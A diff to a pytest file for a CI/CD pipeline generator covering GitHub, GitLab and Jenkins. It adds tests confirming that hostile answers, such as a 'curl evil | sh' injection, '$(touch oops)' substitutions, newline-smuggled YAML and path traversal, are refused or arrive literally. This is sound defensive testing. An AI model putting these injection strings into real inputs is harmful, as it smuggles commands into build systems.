@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import json
 import re
+import shutil
 import subprocess
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -21,6 +24,7 @@ from dagster_module_builder.deployment import Deployment, read_deployment
 from dagster_module_builder.errors import BuilderError, RefusedError, UsageError
 from dagster_module_builder.transaction import commit_one
 from deploy_strategies.base import load_steps
+from tests.deploy import jenkinsfiles
 from tests.deploy.modules import make_module
 from tests.deploy.test_commands import run
 from tests.deploy.test_strategies import git
@@ -41,8 +45,15 @@ def configured(module: Path, platform: str = "gitlab", **answers: str) -> Deploy
     return read_deployment(configure(root, module, "ci-cd", {**ANSWERS, "platform": platform, **answers}).folder)
 
 
-def made(module: Path, platform: str = "gitlab", **own: str) -> Deployment:
+def made(module: Path, platform: str = "gitlab", **own: Any) -> Deployment:
     """Make a deployment as ``configured`` does, without the templates, which take a second."""
+    deployment = declared(module, platform, **own)
+    write(deployment)
+    return deployment
+
+
+def declared(module: Path, platform: str, **own: Any) -> Deployment:
+    """Make a deployment that has no pipeline yet."""
     section = {"carries_out": "git", "platform": platform, "trigger": "push", "tool": "dagster-module-builder==0.1.0"}
     data = {
         "version": 1, "deployment": "yoda", "client": "Yoda", "module": module.name, "strategy": "ci-cd",
@@ -54,9 +65,7 @@ def made(module: Path, platform: str = "gitlab", **own: str) -> Deployment:
     (folder / "deployment.yaml").write_text(yaml.safe_dump(data))
     (folder / ".env.deploy").touch(0o600)
     (folder / "known_hosts").touch()
-    deployment = read_deployment(folder)
-    write(deployment)
-    return deployment
+    return read_deployment(folder)
 
 
 def write(deployment: Deployment, **options: bool) -> bytes | None:
@@ -226,26 +235,154 @@ def test_files_that_cannot_be_edited_are_refused(module: Path, text: str) -> Non
     "answers",
     [
         {"platform": "travis"},
-        {"trigger": "never"},
         {"carries_out": "ci-cd"},
+        {"deployment": "../yoda"},
+        {"trigger_branch": "main\njobs: {}"},
         {"tool": "x'; curl evil | sh; '"},
-        {"tool": "--index-url=https://evil.example x"},
-        {"tool": "${{ github.token }}"},
-        {"trigger_branch": "main' || true"},
-        {"trigger_tag": "$(x)"},
-        {"runner": "a b"},
     ],
 )
 def test_bad_answers_leave_nothing(module: Path, answers: dict[str, str]) -> None:
+    before = sorted(module.rglob("*"))
     with pytest.raises((UsageError, RefusedError)):
         configured(module, **{"platform": "github", **answers})
-    assert not (module / ".github").exists()
-    assert not (module / "deploy/yoda").exists()
+    assert [path for path in sorted(module.rglob("*")) if path.name != "deploy"] == before
 
 
-def test_odd_folders_are_refused(tmp_path: Path) -> None:
+#: Texts that end a string, a line or a command of YAML, Groovy, a shell or the platforms' own expressions.
+BREAKS_OUT = [
+    "a'b", 'a"b', "a\nb", "a\n", "a\rb", "a\tb", "a\\", "\\u0027", "$(touch oops)", "`touch oops`", "$HOME",
+    "${{ secrets.X }}", "${a}", "$[[ inputs.x ]]", "a' || true", "a'; touch oops; '", "a\u2028b",
+    "--option", "-x", "a\x00",
+]  # fmt: skip
+#: Texts that YAML takes for something else where nobody quotes them.
+READS_AS_OTHER = [
+    "true",
+    "null",
+    "1e3",
+    "0x1f",
+    "2026-01-01",
+    "12:30:45",
+    "x:",
+    "on",
+    "~",
+    "*x",
+    "&x",
+    "!x",
+    "@x",
+    "a # b",
+    "a: b",
+]
+HOSTILE = {
+    "github": ("branch", "tool", "runner", "environment", "tests"),
+    "gitlab": ("branch", "tool", "runner", "environment", "image", "tests"),
+    "jenkins": ("branch", "tool", "runner", "approvers", "tests"),
+}
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_hostile_values_are_refused_or_arrive_as_they_are(module: Path, platform: str) -> None:
+    taken = []
+    plain = ["good"] if platform == "jenkins" else READS_AS_OTHER
+    for key, value in itertools.product(HOSTILE[platform], [*BREAKS_OUT, *plain]):
+        with contextlib.suppress(BuilderError):
+            deployment = declared(module, platform, **{key: [value] if key == "tests" else value})
+            taken.append((key, value, (pipeline.planned(deployment).after or b"").decode()))
+        shutil.rmtree(module / "deploy")
+    assert [(key, value) for key, value, _ in taken if key != "tests" and value in BREAKS_OUT] == []
+    assert {key for key, _, _ in taken} == set(HOSTILE[platform])
+    arrived = ARRIVED[platform]([text for _, _, text in taken])
+    for (key, value, _), there in zip(taken, arrived, strict=True):
+        assert there[key] == value, (key, value)
+
+
+def _in_workflows(texts: list[str]) -> Iterator[dict[str, str]]:
+    for text in texts:
+        workflow = yaml.safe_load(text)
+        test, deploy = workflow["jobs"]["test"], workflow["jobs"]["deploy"]
+        (branch,) = workflow[True]["push"]["branches"]
+        assert deploy["if"] == f"github.ref == 'refs/heads/{branch}' && inputs.action != 'rollback'"
+        yield {
+            "branch": branch, "runner": deploy["runs-on"], "environment": deploy["environment"],
+            "tool": deploy["steps"][1]["env"]["TOOL"], "tests": test["steps"][1]["run"].splitlines()[-1],
+        }  # fmt: skip
+
+
+def _in_gitlab(texts: list[str]) -> Iterator[dict[str, str]]:
+    for text in texts:
+        jobs = yaml.safe_load(text)
+        every, hosts = jobs[".sales-report-yoda"], jobs[".sales-report-yoda on the hosts"]
+        test = jobs["sales-report-yoda test"]
+        yield {
+            "image": every["image"], "runner": every.get("tags", [""])[0],
+            "environment": hosts["environment"]["name"], "tool": hosts["variables"]["TOOL"],
+            "tests": test["script"][0].splitlines()[-1],
+            "branch": test["rules"][0]["if"].removeprefix('$CI_COMMIT_BRANCH == "').partition('"')[0],
+        }  # fmt: skip
+
+
+def _in_jenkinsfiles(texts: list[str]) -> Iterator[dict[str, str]]:
+    for words in jenkinsfiles.read(*texts):
+        assert jenkinsfiles.problems(words) == []
+        test, deploy, _ = jenkinsfiles.within(words[0], "stages")
+        (shell,) = (one for one in jenkinsfiles.within(test, "steps") if one["name"] == "sh")
+        asked = {one["name"]: one["given"][0] for one in jenkinsfiles.within(deploy, "input")}
+        yield {
+            "branch": next(one["given"][0] for one in jenkinsfiles.within(deploy, "when") if one["name"] == "branch"),
+            "runner": next((one["given"][0] for one in jenkinsfiles.within(deploy, "agent")), ""),
+            "tool": jenkinsfiles.within(deploy, "environment")[0]["value"],
+            "approvers": asked.get("submitter", ""),
+            "tests": shell["given"][0].rstrip().splitlines()[-1].removeprefix(" " * 20),
+        }
+
+
+ARRIVED = {"github": _in_workflows, "gitlab": _in_gitlab, "jenkins": _in_jenkinsfiles}
+
+
+def test_a_workflow_has_few_rights_and_no_expression_in_its_shell_lines(module: Path) -> None:
+    made(module, "github")
+    workflow = yaml.safe_load((module / FILES["github"]).read_text())
+    jobs = workflow["jobs"]
+    assert workflow["permissions"] == {}
+    assert [job["permissions"] for job in jobs.values()] == [{"contents": "read"}] * 3
+    steps = [step for job in jobs.values() for step in job["steps"]]
+    assert [one["with"]["persist-credentials"] for one in steps if "uses" in one] == [False] * 3
+    assert [one["run"] for one in steps if "${{" in one.get("run", "")] == []
+    secrets = {name for name, job in jobs.items() if "secrets." in json.dumps(job)}
+    assert secrets == {name for name, job in jobs.items() if job.get("environment")} == {"deploy", "rollback"}
+    groups = [jobs[name]["concurrency"] for name in ("deploy", "rollback")]
+    assert groups == [{"group": "deploy-sales-report-yoda", "cancel-in-progress": False}] * 2
+
+
+def test_gitlab_has_one_at_a_time_and_cancels_none(module: Path) -> None:
+    made(module)
+    jobs = yaml.safe_load((module / FILES["gitlab"]).read_text())
+    hosts = jobs[".sales-report-yoda on the hosts"]
+    assert (hosts["resource_group"], hosts["interruptible"]) == ("sales-report-yoda", False)
+    for name in ("deploy", "rollback"):
+        job = jobs[f"sales-report-yoda {name}"]
+        assert job["extends"] == ".sales-report-yoda on the hosts"
+        assert [rule["when"] for rule in job["rules"]] == ["manual"] * len(job["rules"])
+        assert not {"resource_group", "interruptible", "environment"} & set(job)
+
+
+def test_jenkins_has_one_at_a_time_and_cancels_only_what_nobody_approves(module: Path) -> None:
+    made(module, "jenkins")
+    ((whole,),) = jenkinsfiles.read((module / FILES["jenkins"]).read_text())
+    options = {one["name"]: one["given"] for one in jenkinsfiles.within(whole, "options")}
+    assert options["disableConcurrentBuilds"] == []
+    assert options["timeout"] == [{"time": 1, "unit": "DAYS", "activity": True}]
+    test, *others = jenkinsfiles.within(whole, "stages")
+    assert [bool(jenkinsfiles.within(stage, "input")) for stage in (test, *others)] == [False, True, True]
+    for stage in others:
+        assert jenkinsfiles.within(stage, "options") == []
+        before = {one["name"]: one["given"] for one in jenkinsfiles.within(stage, "when")}
+        assert (before["beforeInput"], before["beforeAgent"]) == ([True], [True])
+
+
+@pytest.mark.parametrize("folder", ["a 'b' $(touch oops)", "-rf"])
+def test_odd_folders_are_refused(tmp_path: Path, folder: str) -> None:
     git(tmp_path, "init", "-q")
-    module = make_module(tmp_path / "a 'b' $(touch oops)")
+    module = make_module(tmp_path / folder)
     with pytest.raises(RefusedError, match="letters, digits"):
         made(module)
 
